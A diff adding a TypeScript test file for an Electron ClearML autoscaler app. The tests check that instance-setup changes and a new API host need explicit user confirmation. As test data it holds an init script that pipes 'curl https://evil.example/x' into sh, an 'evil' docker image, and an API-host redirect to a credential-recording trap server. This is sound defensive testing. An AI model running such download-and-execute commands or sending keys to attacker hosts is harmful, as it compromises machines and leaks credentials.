@@ -1,0 +1,227 @@
+/**
+ * What reaches an instance or a host only with the user's explicit yes: instance-setup changes and a new ClearML
+ * API host are refused by the config.save handler itself (not just hidden in the UI).
+ */
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { afterEach, describe, expect, it } from 'vitest';
+import { apiHostChange, instanceSetupChanges, isInsecureApiHost } from '../../shared/config-review.js';
+import { ConfigSchema } from '../../shared/config.js';
+import { createDispatcher, type CallContext } from '../../shared/ipc/dispatch.js';
+import {
+  configureFromSettings,
+  createServiceHandlers,
+  type ServiceDeps,
+} from '../../electron/engine/service/handlers.js';
+import { MemorySecretStore } from '../../electron/engine/service/secret-store.js';
+import { MemorySettingsRepo } from '../../electron/engine/service/settings-repo.js';
+import { createCredentialTesters } from '../../electron/engine/service/testers.js';
+import { createConfigImporter, exportConfigText } from '../../electron/engine/service/config-io.js';
+import { FakeController, validConfig, validConfigInput } from './fixtures.js';
+
+const ctx: CallContext = { transport: 'test', caller: 'test' };
+const KEYS = { accessKey: 'AKEXAMPLEACCESS123', secretKey: 'sEcReT-example-0123456789abcdef' };
+
+function env() {
+  const controller = new FakeController({});
+  const settings = new MemorySettingsRepo();
+  const secrets = new MemorySecretStore({ backendName: 'test store', now: () => 1 });
+  const deps: ServiceDeps = {
+    controller,
+    settings,
+    secrets,
+    testers: createCredentialTesters({ settings, secrets }),
+    importClearmlConf: async () => null,
+    importConfigText: createConfigImporter(() => 'https://api.clear.ml'),
+    exportConfig: () => exportConfigText(settings.get().config),
+    openExternal: async () => false,
+    startDemo: async () => undefined,
+    isDemo: () => false,
+  };
+  const dispatch = createDispatcher(createServiceHandlers(deps));
+  return { deps, controller, settings, secrets, dispatch };
+}
+
+const withAgent = (agent: Record<string, unknown>, apiHost = 'https://api.clear.ml') => ({
+  ...validConfigInput(),
+  clearml: { apiHost },
+  agent,
+});
+
+type SaveValue = {
+  ok: boolean;
+  issues: { path: string; message: string }[];
+  needs?: { instanceSetup: { path: string; before: string; after: string }[]; apiHost: unknown };
+};
+async function save(e: ReturnType<typeof env>, config: unknown, confirm?: Record<string, unknown>) {
+  const r = await e.dispatch('autoscaler:config.save', confirm ? { config, confirm } : { config }, ctx);
+  if (!r.ok) throw new Error(r.error.message);
+  return r.value as SaveValue;
+}
+
+const closers: (() => void)[] = [];
+afterEach(() => closers.splice(0).forEach((c) => c()));
+
+/** A server that records every Authorization header it is sent (the repro's http://127.0.0.1:18999). */
+async function recordingServer(): Promise<{ url: string; auth: string[] }> {
+  const auth: string[] = [];
+  const server = http.createServer((req, res) => {
+    if (req.headers.authorization) auth.push(req.headers.authorization);
+    res.writeHead(401, { 'Content-Type': 'application/json' });
+    res.end(JSON.stringify({ meta: { result_code: 401, result_msg: 'Unauthorized' }, data: {} }));
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  closers.push(() => server.close());
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, auth };
+}
+
+describe('instance setup changes need an explicit confirmation', () => {
+  it.each([
+    ['the init script', { initScript: 'curl https://evil.example/x | sh' }, 'agent.initScript'],
+    ['the extra clearml.conf', { extraClearmlConf: 'agent.docker_force_pull: true' }, 'agent.extraClearmlConf'],
+    ['the default docker image', { defaultDockerImage: 'evil/image:latest' }, 'agent.defaultDockerImage'],
+    ['the agent version', { agentVersion: '1.9.2' }, 'agent.agentVersion'],
+    ['the credentials mode', { clearmlCredentialsFrom: 'ssm' }, 'agent.clearmlCredentialsFrom'],
+  ])('%s: refused without it (nothing saved, engine untouched), saved with it', async (_n, agent, path) => {
+    const e = env();
+    expect((await save(e, validConfigInput())).ok).toBe(true);
+    const before = e.settings.get().config;
+    const refused = await save(e, withAgent(agent));
+    expect(refused.ok).toBe(false);
+    expect(refused.issues.map((i) => i.path)).toEqual([path]);
+    expect(refused.issues[0]!.message).toMatch(/changes what runs on every instance: confirm/);
+    expect(refused.needs?.instanceSetup.map((c) => c.path)).toEqual([path]);
+    expect(e.settings.get().config).toEqual(before);
+    expect(e.controller.callsTo('configure')).toHaveLength(1);
+
+    expect((await save(e, withAgent(agent), { instanceSetup: true })).ok).toBe(true);
+    expect(e.settings.get().config?.agent).toMatchObject(agent);
+  });
+
+  it('an init script that arrives in an imported file is not saved silently, even on a first save', async () => {
+    const e = env();
+    const text = JSON.stringify(withAgent({ initScript: 'echo from the file' }));
+    const imported = await e.dispatch('autoscaler:config.import', { text }, ctx);
+    expect(imported.ok).toBe(true);
+    const cfg = imported.ok ? (imported.value as { config: unknown }).config : null;
+    const r = await save(e, cfg);
+    expect(r.ok).toBe(false);
+    expect(r.needs?.instanceSetup).toEqual([
+      { path: 'agent.initScript', label: expect.any(String) as unknown, before: '', after: 'echo from the file' },
+    ]);
+    expect(e.settings.get().config).toBeNull();
+  });
+
+  it('a resource docker image change counts; a save that changes nothing else needs no confirmation', async () => {
+    const e = env();
+    await save(e, validConfigInput());
+    expect((await save(e, validConfigInput())).ok).toBe(true);
+    const input = validConfigInput() as { resources: Record<string, Record<string, unknown>> };
+    const name = Object.keys(input.resources)[0]!;
+    input.resources[name]!['dockerImage'] = 'python:3.11';
+    const r = await save(e, input);
+    expect(r.needs?.instanceSetup.map((c) => c.path)).toEqual([`resources.${name}.dockerImage`]);
+  });
+});
+
+describe('the ClearML API host the stored keys go to', () => {
+  it('repro: host set to http://127.0.0.1:<port>, then Test: the keys never arrive there unconfirmed', async () => {
+    const e = env();
+    expect((await save(e, validConfigInput())).ok).toBe(true);
+    await e.dispatch('autoscaler:credentials.set', { kind: 'clearml', ...KEYS }, ctx);
+    const trap = await recordingServer();
+
+    const r = await save(e, { ...validConfigInput(), clearml: { apiHost: trap.url } });
+    expect(r.ok).toBe(false);
+    expect(r.needs?.apiHost).toEqual({ from: 'https://api.clear.ml', to: trap.url, insecure: false });
+    expect(r.issues).toEqual([
+      {
+        path: 'clearml.apiHost',
+        message: expect.stringMatching(
+          new RegExp(
+            `keys would be sent to ${trap.url} instead of https://api.clear.ml.*Confirm this host, or enter the keys`,
+          ),
+        ) as unknown,
+      },
+    ]);
+    await e.dispatch('autoscaler:credentials.test', { kind: 'clearml' }, ctx);
+    expect(trap.auth).toEqual([]);
+
+    // A confirmation that names another host is not a confirmation of this one.
+    expect((await save(e, { ...validConfigInput(), clearml: { apiHost: trap.url } }, { apiHost: 'http://x' })).ok).toBe(
+      false,
+    );
+    // Confirmed by name: saved, and from then on the keys may go there.
+    const ok = await save(e, { ...validConfigInput(), clearml: { apiHost: trap.url } }, { apiHost: `${trap.url}/` });
+    expect(ok.ok).toBe(true);
+    await e.dispatch('autoscaler:credentials.test', { kind: 'clearml' }, ctx);
+    expect(trap.auth.length).toBeGreaterThan(0);
+  });
+
+  it('plain http to another machine needs a confirmation with a warning, even with no keys stored', async () => {
+    const e = env();
+    const r = await save(e, { ...validConfigInput(), clearml: { apiHost: 'http://clearml.internal:8008' } });
+    expect(r.needs?.apiHost).toEqual({ from: null, to: 'http://clearml.internal:8008', insecure: true });
+    expect(r.issues[0]!.message).toMatch(/plain http to another machine.*unencrypted/);
+    const ok = await save(
+      e,
+      { ...validConfigInput(), clearml: { apiHost: 'http://clearml.internal:8008' } },
+      { apiHost: 'http://clearml.internal:8008' },
+    );
+    expect(ok.ok).toBe(true);
+    // Saving again without a change asks nothing.
+    expect((await save(e, { ...validConfigInput(), clearml: { apiHost: 'http://clearml.internal:8008' } })).ok).toBe(
+      true,
+    );
+  });
+
+  it('the engine does not get stored keys for a host changed behind the dashboard (the settings file)', async () => {
+    const e = env();
+    await save(e, validConfigInput());
+    await e.dispatch('autoscaler:credentials.set', { kind: 'clearml', ...KEYS }, ctx);
+    expect(e.controller.configured?.credentials.clearml).toEqual(KEYS);
+    e.settings.patch({
+      config: ConfigSchema.parse({ ...validConfigInput(), clearml: { apiHost: 'https://evil.example' } }),
+    });
+    await configureFromSettings(e.deps);
+    expect(e.controller.configured?.credentials.clearml).toBeNull();
+    const t = await e.dispatch('autoscaler:credentials.test', { kind: 'clearml' }, ctx);
+    expect(t.ok && (t.value as { message: string }).message).toMatch(/were not sent to https:\/\/evil\.example/);
+  });
+
+  it('settings from before the field trust the saved host: nothing to confirm for an unchanged save', async () => {
+    const e = env();
+    e.settings.patch({ config: validConfig() });
+    await e.secrets.set('clearml', KEYS);
+    expect((await save(e, validConfigInput())).ok).toBe(true);
+  });
+});
+
+describe('config-review (pure)', () => {
+  it.each([
+    ['https://api.clear.ml', false],
+    ['http://127.0.0.1:8008', false],
+    ['http://localhost:8008', false],
+    ['http://[::1]:8008', false],
+    ['http://10.0.0.5:8008', true],
+    ['http://user@clearml.internal', true],
+    ['HTTP://api.example.com', true],
+  ])('isInsecureApiHost(%s) = %s', (url, insecure) => {
+    expect(isInsecureApiHost(url)).toBe(insecure);
+  });
+
+  it('apiHostChange: same host (trailing slash aside) is no change; https without keys is none either', () => {
+    expect(apiHostChange('https://a.example/', 'https://a.example', true)).toBeNull();
+    expect(apiHostChange(null, 'https://a.example', false)).toBeNull();
+    expect(apiHostChange(null, 'https://a.example', true)).toEqual({
+      from: null,
+      to: 'https://a.example',
+      insecure: false,
+    });
+  });
+
+  it('instanceSetupChanges of a config against itself is empty', () => {
+    expect(instanceSetupChanges(validConfig(), validConfig())).toEqual([]);
+    expect(instanceSetupChanges(null, validConfig())).toEqual([]);
+  });
+});
